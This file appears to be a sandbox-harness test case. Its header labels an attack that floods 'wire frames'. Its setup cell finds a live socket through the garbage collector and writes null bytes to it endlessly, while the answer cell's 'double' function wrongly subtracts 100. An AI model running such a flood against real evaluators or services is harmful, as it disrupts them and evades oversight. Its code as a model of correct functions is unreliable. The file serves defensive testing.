# ---
# attack: 'Writes into the wire without an end, and never reads.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: could not be read
# ---
# %% before="q1"
import gc
import socket

sockets = [thing for thing in gc.get_objects() if type(thing) is socket.socket]
wire = next(thing for thing in sockets if thing.fileno() >= 0)
wire.settimeout(None)
while True:
    wire.sendall(b"\0" * 2**20)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
